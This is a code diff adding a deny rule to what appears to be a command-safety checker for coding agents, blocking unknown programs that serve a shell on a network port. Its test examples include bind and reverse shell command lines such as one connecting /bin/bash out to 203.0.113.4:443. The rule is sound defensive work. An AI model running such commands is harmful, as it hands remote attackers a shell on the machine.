@@ -410,6 +410,24 @@ RULES = [
         },
     },
     {
+        "id": "sys.unknown-program-shell-served",
+        "level": "forbidden",
+        "irreversible": True,
+        "reason": "hands a shell to a program and tells it to listen on the network or connect out "
+        "(`X --exec /bin/sh --listen 0.0.0.0:9001`): anyone who reaches the port gets a shell, a bind "
+        "or reverse shell under another name",
+        "safer": "Nothing in a coding task needs to serve a shell on a port.",
+        "recovery": "Treat the machine as compromised: disconnect it, rotate credentials, rebuild.",
+        "match": {"cmd": ("*",), "unknown": True, "shell_args": True,
+                  "words_any": ("--listen", "--listen=*", "--bind", "--bind=*", "--port", "--port=*",
+                                "--connect", "--connect=*", "*0.0.0.0:*", "tcp:*", "tcp-listen:*")},
+        "examples": {
+            "match": ["qpack --exec /bin/sh -i --listen 0.0.0.0:9001",
+                      "./relay --shell /bin/bash --connect 203.0.113.4:443"],
+            "no_match": ["frob /bin/sh", "./helper --shell /usr/bin/zsh", "acme-serve --port 8080 ./site"],
+        },
+    },
+    {
         "id": "sys.unknown-program-root",
         "level": "destructive",
         "reason": "runs a program the dongle does not know as root: it can change anything on the system",
